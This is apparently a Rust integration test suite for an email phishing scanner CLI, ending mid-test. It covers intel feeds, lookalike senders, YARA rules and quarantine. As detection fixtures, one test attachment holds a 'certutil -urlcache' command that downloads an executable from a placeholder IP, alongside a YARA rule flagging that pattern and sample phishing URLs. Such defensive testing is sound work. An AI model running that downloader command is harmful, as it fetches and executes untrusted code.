//! The CLI as a user drives it: exit codes, output formats, config check,
//! and the intel workflow (import → url check → scan → stats → remove).

use outwork_test_support::{Redis, gates, repo, sandbox_home, temp_dir};

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// outwork with a home of its own: its default data files (verdict log,
/// intel store, model, history) go to a throw-away directory, never the
/// user's `~/.local/share/outwork`.
fn bin() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_outwork"));
    c.env("HOME", sandbox_home())
        .env("XDG_DATA_HOME", sandbox_home().join(".local/share"));
    c
}

fn run(cmd: &mut Command) -> Output {
    cmd.output().expect("run outwork")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

#[test]
fn scan_exit_codes_and_jsonl_schema() {
    let samples = repo().join("samples");
    let legit = samples.join("legit-paypal-receipt.eml");
    let o = run(bin().args(["scan", "-q"]).arg(&legit));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("action: accept"));

    let o = run(bin()
        .args(["scan", "-q", "-f", "jsonl", "--no-progress"])
        .arg(&samples));
    assert_eq!(o.status.code(), Some(1), "flagged messages → 1");
    let lines: Vec<serde_json::Value> = text(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("json line"))
        .collect();
    assert_eq!(lines.len(), 6, "3 files + a 3-message mbox");
    for v in &lines {
        assert!(v["path"].is_string());
        assert!(
            ["accept", "tag", "quarantine", "reject"].contains(&v["action"].as_str().unwrap_or(""))
        );
        assert!(v["score"].is_number());
        assert!(v["error"].is_null());
        for s in v["symbols"].as_array().expect("symbols") {
            assert!(s["name"].is_string() && s["score"].is_number());
            assert!(!s["evidence"].as_array().expect("evidence").is_empty());
        }
    }
    assert!(
        lines
            .iter()
            .any(|v| v["path"].as_str().unwrap_or("").ends_with("mailbox.mbox#2"))
    );

    let o = run(bin().args(["scan", "-q", "does-not-exist.eml"]));
    assert_eq!(o.status.code(), Some(2), "unreadable input → 2");

    // stdin
    let mut child = bin()
        .args(["scan", "-q", "-f", "json", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let data = std::fs::read(samples.join("phish-typosquat.eml")).expect("sample");
    use std::io::Write;
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(&data)
        .expect("write");
    let o = child.wait_with_output().expect("wait");
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert_eq!(v["path"], "-");
    // Flagged (how far depends on the model in use).
    assert!(
        matches!(v["action"].as_str(), Some("quarantine" | "reject")),
        "{}",
        v["action"]
    );
}

#[test]
fn config_check_reports_unknown_keys_with_lines() {
    let d = temp_dir("config");
    let f = d.join("bad.toml");
    std::fs::write(&f, "[thresholds]\ntag = 4\ntagg = 3\n").expect("write");
    let o = run(bin().args(["config", "check"]).arg(&f));
    assert_eq!(o.status.code(), Some(2));
    assert!(
        text(&o.stdout).contains(":3: thresholds.tagg: unknown key"),
        "{}",
        text(&o.stdout)
    );
    let o = run(bin()
        .args(["config", "check"])
        .arg(repo().join("outwork.example.toml")));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stdout));
    assert!(!text(&o.stdout).contains("warning"), "{}", text(&o.stdout));
}

/// Issue 17 item 6f: a non-loopback listener without a token passed
/// `config check` with no word.
#[test]
fn config_check_warns_about_an_exposed_listener() {
    let d = temp_dir("config-exposed");
    let f = d.join("exposed.toml");
    std::fs::write(&f, "[http]\nlisten = \"0.0.0.0:11333\"\n").expect("write");
    let o = run(bin().args(["config", "check"]).arg(&f));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stdout));
    let out = text(&o.stdout);
    assert!(
        out.contains("warning: http.listen = \"0.0.0.0:11333\" is not loopback"),
        "{out}"
    );
    assert!(
        out.contains("warning: http.admin_token is not set"),
        "{out}"
    );
    // A token but open reads: still said.
    std::fs::write(
        &f,
        "[http]\nlisten = \"192.0.2.1:11333\"\nadmin_token = \"token-0123456789abcdef\"\n",
    )
    .expect("write");
    let out = text(&run(bin().args(["config", "check"]).arg(&f)).stdout);
    assert!(out.contains("login_for_reads"), "{out}");
    // Loopback: nothing to say.
    std::fs::write(&f, "[http]\nlisten = \"127.0.0.1:11333\"\n").expect("write");
    let out = text(&run(bin().args(["config", "check"]).arg(&f)).stdout);
    assert!(!out.contains("warning"), "{out}");
}

#[test]
fn intel_import_check_scan_stats_remove() {
    let d = temp_dir("intel");
    let store = d.join("intel.owi");
    let feed = d.join("openphish.txt");
    std::fs::write(
        &feed,
        "http://www.paypa1.com/\nhttps://login.evil.example/verify/\nnot a url at all ::\n",
    )
    .expect("write");
    // One line in three is junk: the format is still detected (the README's
    // first example), the line reported, as with `--format urls`.
    let o = run(bin()
        .args(["intel", "import", "--source", "openphish", "--intel"])
        .arg(&store)
        .arg(&feed));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(
        text(&o.stdout).contains("imported 2 entries") && text(&o.stdout).contains("(urls)"),
        "{}",
        text(&o.stdout)
    );
    assert!(
        text(&o.stderr).contains(":3: malformed"),
        "malformed line reported with its number: {}",
        text(&o.stderr)
    );
    // Two junk lines in four stay ambiguous: the user says the format.
    let mixed = d.join("mixed.txt");
    std::fs::write(
        &mixed,
        "http://a.example/x
note one
note two
http://b.example/y
",
    )
    .expect("write");
    let o = run(bin()
        .args(["intel", "import", "--source", "openphish", "--intel"])
        .arg(d.join("other.owi"))
        .arg(&mixed));
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o.stderr).contains("--format"), "{}", text(&o.stderr));
    let o = run(bin()
        .args([
            "intel",
            "import",
            "--format",
            "urls",
            "--source",
            "openphish",
            "--kind",
            "phishing",
            "--intel",
        ])
        .arg(&store)
        .arg(&feed));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(
        text(&o.stdout).contains("imported 2 entries"),
        "{}",
        text(&o.stdout)
    );
    assert!(
        text(&o.stderr).contains(":3: malformed"),
        "malformed line reported with its number: {}",
        text(&o.stderr)
    );

    let o = run(bin().args(["url", "check", "--intel"]).arg(&store).args([
        "https://login.evil.example/verify/step2?x=1",
        "https://example.org/",
    ]));
    assert_eq!(o.status.code(), Some(1), "a listed URL → 1");
    let out = text(&o.stdout);
    assert!(
        out.contains("LISTED")
            && out.contains("openphish")
            && out.contains("login.evil.example/verify/"),
        "{out}"
    );
    assert!(out.contains("https://example.org/: not listed"));
    let o = run(bin()
        .args(["url", "check", "-f", "jsonl", "--intel"])
        .arg(&store)
        .arg("https://example.org/"));
    assert_eq!(o.status.code(), Some(0));
    let v: serde_json::Value = serde_json::from_str(text(&o.stdout).trim()).expect("json");
    assert_eq!(v["listed"], false);

    // The bundled typosquat sample links to www.paypa1.com.
    let o = run(bin()
        .args(["scan", "-q", "-f", "json", "--intel"])
        .arg(&store)
        .arg(repo().join("samples/phish-typosquat.eml")));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    let sym = v["symbols"]
        .as_array()
        .expect("symbols")
        .iter()
        .find(|s| s["name"] == "URL_BLOCKLISTED")
        .expect("URL_BLOCKLISTED fired");
    assert!(
        sym["evidence"][0]
            .as_str()
            .unwrap_or("")
            .contains("listed by openphish"),
        "{sym}"
    );

    // An allow-list wins, and says so.
    let cfg = d.join("allow.toml");
    std::fs::write(&cfg, "[allow]\ndomains = [\"paypa1.com\"]\n").expect("write");
    let o = run(bin()
        .args(["scan", "-q", "-f", "json", "--intel"])
        .arg(&store)
        .arg("--config")
        .arg(&cfg)
        .arg(repo().join("samples/phish-typosquat.eml")));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    let names: Vec<&str> = v["symbols"]
        .as_array()
        .expect("symbols")
        .iter()
        .filter_map(|s| s["name"].as_str())
        .collect();
    assert!(
        names.contains(&"INTEL_ALLOWLISTED") && !names.contains(&"URL_BLOCKLISTED"),
        "{names:?}"
    );

    // A clean hosts file is detected by itself.
    let hosts = d.join("hosts.txt");
    std::fs::write(
        &hosts,
        "# urlhaus\n0.0.0.0 malware-drop.example\n0.0.0.0 c2.bad.example\n",
    )
    .expect("write");
    let o = run(bin()
        .args([
            "intel", "import", "--source", "urlhaus", "--kind", "malware", "--intel",
        ])
        .arg(&store)
        .arg(&hosts));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("(hosts)"), "{}", text(&o.stdout));

    let o = run(bin().args(["intel", "stats", "--intel"]).arg(&store));
    assert!(
        text(&o.stdout).contains("openphish") && text(&o.stdout).contains("2 entries"),
        "{}",
        text(&o.stdout)
    );

    // A corrupt store is refused; the scan goes on and says so.
    let good = std::fs::read(&store).expect("read");
    let bad = d.join("bad.owi");
    std::fs::write(&bad, &good[..good.len() - 3]).expect("write");
    let o = run(bin()
        .args(["scan", "-q", "-f", "json", "--intel"])
        .arg(&bad)
        .arg(repo().join("samples/legit-paypal-receipt.eml")));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert!(
        v["symbols"]
            .as_array()
            .expect("symbols")
            .iter()
            .any(|s| s["name"] == "INTEL_UNAVAILABLE"),
        "{v}"
    );
    assert!(text(&o.stderr).contains("corrupt"));

    let o = run(bin()
        .args(["intel", "remove", "--source", "openphish", "--intel"])
        .arg(&store));
    assert_eq!(o.status.code(), Some(0));
    let o = run(bin()
        .args(["url", "check", "--intel"])
        .arg(&store)
        .arg("http://www.paypa1.com/"));
    assert_eq!(o.status.code(), Some(0), "removed source no longer matches");
    let o = run(bin()
        .args(["intel", "remove", "--source", "openphish", "--intel"])
        .arg(&store));
    assert_eq!(
        o.status.code(),
        Some(2),
        "removing an unknown source is an error"
    );
}

/// Serve one fixed body over HTTP/1.1 on loopback for `n` requests.
fn serve(body: &'static str, n: usize) -> String {
    use std::io::{Read, Write};
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let addr = l.local_addr().expect("addr");
    std::thread::spawn(move || {
        for s in l.incoming().take(n) {
            let Ok(mut s) = s else { continue };
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = write!(
                s,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nETag: \"v1\"\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    format!("http://{addr}/feed.txt")
}

#[test]
fn intel_update_fetches_configured_feeds() {
    let d = temp_dir("update");
    let store = d.join("intel.owi");
    let url = serve(
        "http://updated-feed.example/login/\nhttp://second.example/x\n",
        1,
    );
    let cfg = d.join("outwork.toml");
    std::fs::write(&cfg, format!("[intel]\npath = {:?}\nretries = 1\n[[intel.feeds]]\nname = \"local\"\nurl = \"{url}\"\nformat = \"urls\"\n", store.display().to_string())).expect("write");
    let o = run(bin().args(["intel", "update", "--config"]).arg(&cfg));
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}{}",
        text(&o.stdout),
        text(&o.stderr)
    );
    assert!(
        text(&o.stdout).contains("updated: 2 entries"),
        "{}",
        text(&o.stdout)
    );
    let o = run(bin()
        .args(["url", "check", "--config"])
        .arg(&cfg)
        .arg("http://updated-feed.example/login/x"));
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stdout));
    // The server is gone now: the feed fails, the previous data stays.
    let o = run(bin().args(["intel", "update", "--config"]).arg(&cfg));
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stdout));
    assert!(
        text(&o.stdout).contains("FAILED, previous data kept"),
        "{}",
        text(&o.stdout)
    );
    let o = run(bin()
        .args(["url", "check", "--config"])
        .arg(&cfg)
        .arg("http://updated-feed.example/login/x"));
    assert_eq!(o.status.code(), Some(1));
}

/// Whether redis-server is here (outwork_test_support::gates).
fn have_redis() -> bool {
    gates::check(&gates::REDIS)
}

#[test]
#[cfg_attr(
    outwork_no_redis,
    ignore = "needs redis-server (OUTWORK_REQUIRE_REDIS=1 makes this a failure)"
)]
fn redis_store_end_to_end_and_outage() {
    if !have_redis() {
        return;
    }
    let d = temp_dir("redis");
    let mut redis = Redis::start("cli");
    let url = redis.url();
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!("[intel]\nredis = \"{url}\"\nredis_timeout_ms = 300\n"),
    )
    .expect("write");
    let feed = d.join("feed.txt");
    std::fs::write(&feed, "http://www.paypa1.com/\n").expect("write");
    let o = run(bin()
        .args([
            "intel", "import", "--format", "urls", "--source", "shared", "--config",
        ])
        .arg(&cfg)
        .arg(&feed));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let o = run(bin()
        .args(["url", "check", "--config"])
        .arg(&cfg)
        .arg("http://www.paypa1.com/x"));
    assert_eq!(
        o.status.code(),
        Some(1),
        "{}{}",
        text(&o.stdout),
        text(&o.stderr)
    );
    let sample = repo().join("samples/phish-typosquat.eml");
    let o = run(bin()
        .args(["scan", "-q", "-f", "json", "--config"])
        .arg(&cfg)
        .arg(&sample));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert!(
        v["symbols"]
            .as_array()
            .expect("symbols")
            .iter()
            .any(|s| s["name"] == "URL_BLOCKLISTED"),
        "{v}"
    );

    // Redis goes away: the scan still finishes, promptly, and says why.
    redis.kill();
    let start = std::time::Instant::now();
    let o = run(bin()
        .args(["scan", "-q", "-f", "json", "--config"])
        .arg(&cfg)
        .arg(&sample));
    assert!(
        start.elapsed() < std::time::Duration::from_secs(5),
        "bounded by the deadline"
    );
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    let names: Vec<&str> = v["symbols"]
        .as_array()
        .expect("symbols")
        .iter()
        .filter_map(|s| s["name"].as_str())
        .collect();
    assert!(
        names.contains(&"INTEL_UNAVAILABLE") && !names.contains(&"URL_BLOCKLISTED"),
        "{names:?}"
    );
    assert_ne!(
        v["action"], "accept",
        "offline signals still flag the typosquat"
    );
}

/// A message with one attachment carrying `marker`.
fn message_with_attachment(dir: &Path, marker: &str) -> PathBuf {
    let p = dir.join("order.eml");
    let b64 = {
        // Tiny base64 so the test needs no extra dependency.
        const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let data = format!("@echo off\r\n{marker}\r\n");
        let mut out = String::new();
        for c in data.as_bytes().chunks(3) {
            let n = (u32::from(c[0]) << 16)
                | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
                | u32::from(*c.get(2).unwrap_or(&0));
            for i in 0..4 {
                if i <= c.len() {
                    out.push(T[(n >> (18 - 6 * i) & 63) as usize] as char);
                } else {
                    out.push('=');
                }
            }
        }
        out
    };
    std::fs::write(
        &p,
        format!(
            "From: Orders <orders@supplier.example>\r\nTo: ap@northwind.example\r\nSubject: Order 5521\r\nDate: Thu, 26 Nov 2026 08:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nOrder attached.\r\n--b\r\nContent-Type: text/plain; name=\"order.txt\"\r\nContent-Disposition: attachment; filename=\"order.txt\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--b--\r\n"
        ),
    )
    .expect("write eml");
    p
}

#[cfg(not(feature = "yara"))]
#[test]
fn yara_rules_in_a_build_without_yara_is_a_clear_error() {
    let d = temp_dir("noyara");
    std::fs::write(d.join("r.yar"), "rule x { condition: true }").expect("rule");
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!(
            "[inspect]\nyara_rules = \"{}\"\n",
            d.join("r.yar").display()
        ),
    )
    .expect("cfg");
    let eml = message_with_attachment(&d, "hello");
    let o = run(bin().args(["scan", "-q", "--config"]).arg(&cfg).arg(&eml));
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stdout));
    assert!(
        text(&o.stderr).contains("--features yara"),
        "{}",
        text(&o.stderr)
    );
}

#[cfg(feature = "yara")]
#[test]
fn yara_rule_fires_a_symbol_named_after_it() {
    let d = temp_dir("yara");
    let rules = d.join("rules");
    std::fs::create_dir_all(&rules).expect("mkdir");
    std::fs::write(
        rules.join("droppers.yar"),
        "rule Cmd_Downloader : dropper {\n  meta:\n    score = 7\n  strings:\n    $a = \"certutil -urlcache\" nocase\n  condition:\n    $a\n}\n",
    )
    .expect("rule");
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!("[inspect]\nyara_rules = \"{}\"\n", rules.display()),
    )
    .expect("cfg");
    let eml = message_with_attachment(&d, "CertUtil -urlcache -f http://203.0.113.9/a.exe a.exe");
    let o = run(bin()
        .args(["scan", "-q", "-f", "jsonl", "--no-progress", "--config"])
        .arg(&cfg)
        .arg(&eml));
    let v: serde_json::Value = serde_json::from_str(text(&o.stdout).trim()).expect("one json line");
    let sym = v["symbols"]
        .as_array()
        .expect("symbols")
        .iter()
        .find(|s| s["name"] == "YARA_CMD_DOWNLOADER")
        .unwrap_or_else(|| panic!("no YARA symbol: {v}"));
    assert_eq!(sym["score"], 7.0);
    let ev = sym["evidence"][0].as_str().unwrap_or("");
    assert!(
        ev.contains("order.txt") && ev.contains("droppers:Cmd_Downloader [dropper]"),
        "{ev}"
    );

    // A rule that does not compile stops the scan with the file and line.
    std::fs::write(rules.join("broken.yar"), "rule b {\n condition:\n  $x\n}\n").expect("rule");
    let o = run(bin().args(["scan", "-q", "--config"]).arg(&cfg).arg(&eml));
    assert_eq!(o.status.code(), Some(2));
    assert!(
        text(&o.stderr).contains("broken.yar"),
        "{}",
        text(&o.stderr)
    );
}

fn vendor_mail(dir: &Path, name: &str, from: &str, display: &str, to: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(
        &p,
        format!(
            "From: \"{display}\" <{from}>\r\nTo: ap@northwind.example\r\nSubject: Statement for November\r\nDate: Thu, 26 Nov 2026 08:00:00 +0000\r\nMessage-ID: <{name}@x>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nHello {to}, your November statement is ready. Kind regards.\r\n"
        ),
    )
    .expect("write eml");
    p
}

/// Learn correspondents from accepted mail, then judge new senders: the
/// whole first-contact loop as an admin runs it, on the embedded store and
/// on Redis.
fn history_loop(d: &Path, store_cfg: &str) {
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!(
            "[deployment]\nprotected_domains = [\"northwind.example\"]\nvip_names = [\"Dana Whitfield\"]\n\n[history]\nenabled = true\nmin_known = 3\nknown_after = 2\nknown_days = 0\n{store_cfg}"
        ),
    )
    .expect("cfg");
    let vendors = [
        ("billing@contoso-supplies.com", "Contoso Billing"),
        ("invoices@fabrikam-freight.com", "Fabrikam"),
        ("accounts@tailspin-toys.com", "Tailspin Accounts"),
    ];
    // The first supplier has written twice before.
    for (i, (from, display)) in vendors.iter().chain(&vendors[..1]).enumerate() {
        let eml = vendor_mail(d, &format!("v{i}.eml"), from, display, "team");
        let o = run(bin().args(["scan", "-q", "--config"]).arg(&cfg).arg(&eml));
        assert_eq!(o.status.code(), Some(0), "{}", text(&o.stdout));
    }
    let scan = |eml: &Path| -> String {
        let o = run(bin()
            .args(["scan", "-q", "-f", "jsonl", "--no-progress", "--config"])
            .arg(&cfg)
            .arg(eml));
        text(&o.stdout)
    };
    // The known supplier again: a known correspondent now.
    let again = vendor_mail(d, "again.eml", vendors[0].0, vendors[0].1, "team");
    let out = scan(&again);
    assert!(out.contains("KNOWN_CORRESPONDENT"), "{out}");
    assert!(!out.contains("FIRST_CONTACT"), "{out}");
    // One letter off the supplier's domain, never seen: the BEC shape.
    let fake = vendor_mail(
        d,
        "fake.eml",
        "billing@contoso-suppliez.com",
        "Contoso Billing",
        "team",
    );
    let out = scan(&fake);
    assert!(out.contains("FIRST_CONTACT_LOOKALIKE"), "{out}");
    assert!(
        !out.contains("contoso-supplies.com"),
        "a hash store can't name it: {out}"
    );
    // A stranger using the CFO's name.
    let vip = vendor_mail(
        d,
        "vip.eml",
        "dana.whitfield.cfo@outlook-mail.example",
        "Dana Whitfield",
        "team",
    );
    let out = scan(&vip);
    assert!(out.contains("FIRST_CONTACT_VIP_NAME"), "{out}");
    assert!(out.contains("\"FIRST_CONTACT\""), "{out}");
    // The lookalike was flagged, so it was not learned: still a lookalike.
    let out = scan(&fake);
    assert!(out.contains("FIRST_CONTACT_LOOKALIKE"), "{out}");

    let o = run(bin()
        .args([
            "history",
            "check",
            "--from",
            "billing@contoso-suppliez.com",
            "--to",
            "ap@northwind.example",
            "--config",
        ])
        .arg(&cfg));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("LOOKALIKE"), "{}", text(&o.stdout));
}

#[test]
fn history_first_contact_file_store() {
    let d = temp_dir("history");
    let store = d.join("history.owh");
    history_loop(&d, &format!("path = \"{}\"\n", store.display()));
    let bytes = std::fs::read(&store).expect("store written");
    assert!(!text(&bytes).contains("contoso"), "no domains in the store");
    let cfg = d.join("outwork.toml");
    let o = run(bin().args(["history", "stats", "--config"]).arg(&cfg));
    assert!(text(&o.stdout).contains("entries:"), "{}", text(&o.stdout));
    let o = run(bin()
        .args(["history", "prune", "--older-than", "0", "--config"])
        .arg(&cfg));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(
        text(&o.stdout).starts_with("pruned "),
        "{}",
        text(&o.stdout)
    );
}

#[test]
#[cfg_attr(
    outwork_no_redis,
    ignore = "needs redis-server (OUTWORK_REQUIRE_REDIS=1 makes this a failure)"
)]
fn history_first_contact_redis_store() {
    if !have_redis() {
        return;
    }
    let d = temp_dir("history-redis");
    let redis = Redis::start("cli");
    history_loop(&d, &format!("redis = \"{}\"\n", redis.url()));
}

#[test]
fn quarantine_list_show_release_delete() {
    let d = temp_dir("quarantine");
    let qdir = d.join("q");
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!("[milter]\nquarantine_dir = \"{}\"\n", qdir.display()),
    )
    .expect("cfg");
    // Quarantine two messages the way the milter does.
    let store = outwork_server::QuarantineStore::open(&qdir).expect("store");
    let raw = std::fs::read(repo().join("samples/phish-typosquat.eml")).expect("sample");
    let verdict = offline_scan(&raw);
    let env = outwork_engine::Envelope {
        mail_from: Some("bounce@attacker.example".into()),
        rcpt_to: vec![
            "ap@northwind.example".into(),
            "cfo@northwind.example".into(),
        ],
        ..Default::default()
    };
    let id1 = store.put(&raw, &verdict, &env).expect("put");
    let id2 = store.put(&raw, &verdict, &env).expect("put");

    let o = run(bin().args(["quarantine", "list", "--config"]).arg(&cfg));
    let listing = text(&o.stdout);
    assert!(
        listing.contains(&id1) && listing.contains(&id2),
        "{listing}"
    );
    assert!(listing.contains("bounce@attacker.example"), "{listing}");

    let o = run(bin()
        .args(["quarantine", "show", "--raw", &id1, "--config"])
        .arg(&cfg));
    assert_eq!(o.stdout, raw, "show --raw gives the message byte for byte");

    // Release through a stand-in sendmail that records what it was given.
    let fake = d.join("sendmail");
    let got = d.join("delivered");
    std::fs::write(
        &fake,
        format!(
            "#!/bin/sh\necho \"$@\" > {0}.args\ncat > {0}\n",
            got.display()
        ),
    )
    .expect("fake sendmail");
    run(Command::new("chmod").arg("+x").arg(&fake));
    let o = run(bin()
        .args(["quarantine", "release", &id1, "--sendmail"])
        .arg(&fake)
        .arg("--config")
        .arg(&cfg));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(std::fs::read(&got).expect("delivered"), raw);
    let args = std::fs::read_to_string(got.with_extension("args")).expect("args");
    assert_eq!(
        args.trim(),
        "-i -f bounce@attacker.example -- ap@northwind.example cfo@northwind.example"
    );
    // A failing sendmail keeps the message.
    let o = run(bin()
        .args([
            "quarantine",
            "release",
            &id2,
            "--sendmail",
            "/bin/false",
            "--config",
        ])
        .arg(&cfg));
    assert_eq!(o.status.code(), Some(2));
    let o = run(bin()
        .args(["quarantine", "delete", &id2, "--config"])
        .arg(&cfg));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let o = run(bin().args(["quarantine", "list", "--config"]).arg(&cfg));
    assert!(text(&o.stdout).contains("is empty"), "{}", text(&o.stdout));
    // A message that isn't there: the error names where outwork looked,
    // and where that came from.
    let o = run(bin()
        .args(["quarantine", "show", &id2, "--config"])
        .arg(&cfg));
    assert_eq!(o.status.code(), Some(2));
    let e = text(&o.stderr);
    assert!(
        e.contains(&format!(
            "no quarantined message {id2} in {}",
            qdir.display()
        )) && e.contains("[milter] quarantine_dir of"),
        "{e}"
    );
    let o = run(bin().args(["quarantine", "show", &id2]));
    let e = text(&o.stderr);
    assert!(e.contains("--config"), "{e}");
}

/// One HTTP/1.1 request on a new connection (`Connection: close`):
/// status and body.
fn http(
    addr: &str,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> (u16, String) {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(addr).expect("connect");
    s.set_read_timeout(Some(std::time::Duration::from_secs(30)))
        .expect("timeout");
    let mut req = format!(
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nContent-Length: {}\r\n",
        body.len()
    );
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    s.write_all(req.as_bytes()).expect("write");
    s.write_all(body).expect("write body");
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    let out = text(&out);
    let status = out
        .get(9..12)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no status: {out}"));
    let body = out.split_once("\r\n\r\n").map_or("", |x| x.1).to_string();
    (status, body)
}

/// `outwork serve` as a child process, killed on drop.
struct Serve {
    child: std::process::Child,
    addr: String,
    log: PathBuf,
}

impl Serve {
    fn start(config: &Path, intel: &Path, log: PathBuf) -> Serve {
        let child = bin()
            .args(["serve", "--config"])
            .arg(config)
            .arg("--intel")
            .arg(intel)
            .env("RUST_LOG", "info")
            .stdout(std::process::Stdio::null())
            .stderr(std::fs::File::create(&log).expect("log"))
            .spawn()
            .expect("spawn serve");
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        let addr = loop {
            let l = std::fs::read_to_string(&log).unwrap_or_default();
            if let Some(a) = l
                .split("HTTP API listening on http://")
                .nth(1)
                .and_then(|r| r.split_whitespace().next())
            {
                break a.to_string();
            }
            assert!(
                std::time::Instant::now() < deadline,
                "serve did not start: {l}"
            );
            std::thread::sleep(std::time::Duration::from_millis(50));
        };
        Serve { child, addr, log }
    }

    fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    /// The symbols `/v1/scan` gives `msg`.
    fn symbols(&self, msg: &[u8]) -> Vec<String> {
        let (st, body) = http(&self.addr, "POST", "/v1/scan", &[], msg);
        assert_eq!(st, 200, "{body}");
        let v: serde_json::Value = serde_json::from_str(&body).expect("json");
        v["symbols"]
            .as_array()
            .expect("symbols")
            .iter()
            .map(|s| s["name"].as_str().unwrap_or("").to_string())
            .collect()
    }
}

impl Drop for Serve {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Issue 17 item 4: a store overwritten with a truncated file must not
/// replace the good index on reload (it used to answer `reloaded: true`
/// and listed URLs went from quarantine to accept); at start-up a corrupt
/// store is served like a missing one, loudly, with INTEL_UNAVAILABLE.
#[test]
fn serve_keeps_the_last_good_intel_store_when_reload_finds_it_corrupt() {
    let d = temp_dir("reload-intel");
    let store = d.join("intel.owi");
    let feed = d.join("feed.txt");
    std::fs::write(&feed, "https://login.evil.example/verify/\n").expect("write");
    let o = run(bin()
        .args([
            "intel", "import", "--format", "urls", "--source", "s", "--intel",
        ])
        .arg(&store)
        .arg(&feed));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let good = std::fs::read(&store).expect("store");
    let config = d.join("outwork.toml");
    std::fs::write(
        &config,
        "[http]\nlisten = \"127.0.0.1:0\"\nadmin_token = \"reload-token-0123456789\"\n[dashboard]\nenabled = false\n",
    )
    .expect("config");
    let msg = b"From: <a@sender.example>\r\nTo: <b@example.org>\r\nSubject: verify\r\n\r\nhttps://login.evil.example/verify/now\r\n";
    let auth = [("Authorization", "Bearer reload-token-0123456789")];

    let srv = Serve::start(&config, &store, d.join("serve1.log"));
    assert!(srv.symbols(msg).contains(&"URL_BLOCKLISTED".to_string()));
    // Truncated in place (not renamed over): the good index must stay.
    std::fs::write(&store, &good[..good.len() / 2]).expect("truncate");
    let (st, body) = http(&srv.addr, "POST", "/admin/reload", &auth, b"");
    assert_eq!(st, 500, "{body}");
    let v: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(v["reloaded"], false, "{body}");
    assert!(
        v["error"].as_str().unwrap_or("").contains("corrupt"),
        "{body}"
    );
    let syms = srv.symbols(msg);
    assert!(syms.contains(&"URL_BLOCKLISTED".to_string()), "{syms:?}");
    assert!(!syms.contains(&"INTEL_UNAVAILABLE".to_string()), "{syms:?}");
    // SIGHUP: the same.
    let pid = srv.child.id().to_string();
    let _ = Command::new("kill").args(["-HUP", &pid]).status();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while srv.log().matches("reload failed").count() < 2 {
        assert!(std::time::Instant::now() < deadline, "{}", srv.log());
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    assert!(srv.symbols(msg).contains(&"URL_BLOCKLISTED".to_string()));
    let (_, metrics) = http(&srv.addr, "GET", "/metrics", &[], b"");
    assert!(
        metrics.contains("outwork_reloads_total{result=\"error\"} 2"),
        "{metrics}"
    );
    drop(srv);

    // Start-up with the corrupt store: served without blocklists, said
    // loudly, and every verdict carries INTEL_UNAVAILABLE.
    let srv = Serve::start(&config, &store, d.join("serve2.log"));
    let syms = srv.symbols(msg);
